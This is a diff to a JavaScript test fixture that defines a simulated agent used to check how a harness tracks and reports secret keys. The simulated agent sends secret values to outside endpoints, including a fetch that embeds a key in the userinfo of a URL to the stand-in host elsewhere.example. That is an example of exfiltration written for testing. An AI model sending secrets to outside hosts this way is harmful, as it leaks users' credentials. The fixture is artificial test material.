@@ -39,10 +39,13 @@ export async function agent(shop, model, say) {
   await json(gemini, { method: 'POST', body: JSON.stringify({ contents: [{ parts: [{ text: keys['query key'] }] }] }) });
   await fetch('http://u:' + keys['userinfo of a URL'] + '@elsewhere.example/').catch((error) => say(String(error)));
   const order = await json(shop + '/orders', { method: 'POST', body: JSON.stringify({ api_key: keys['body field'] }) });
-  say('all I know: ' + Object.values(keys).join(' '));
+  // The tool's key is a secret by the field that it comes in: nobody knows it where none came.
+  const { 'given by the tool': _, ...own } = keys;
+  const known = [...Object.values(own), ...(order.token ? [order.token] : [])];
+  say('all I know: ' + known.join(' '));
   say('GET http://u:' + keys['userinfo of a URL'] + '@elsewhere.example/ failed');
   return { status: 'done', said: keys['said by the agent'], order,
-    told: Object.values(keys).filter((one) => !one.includes('user.odd')).join(', ') };
+    told: known.filter((one) => !one.includes('user.odd')).join(', ') };
 }`;
 
 const scenarioText = `
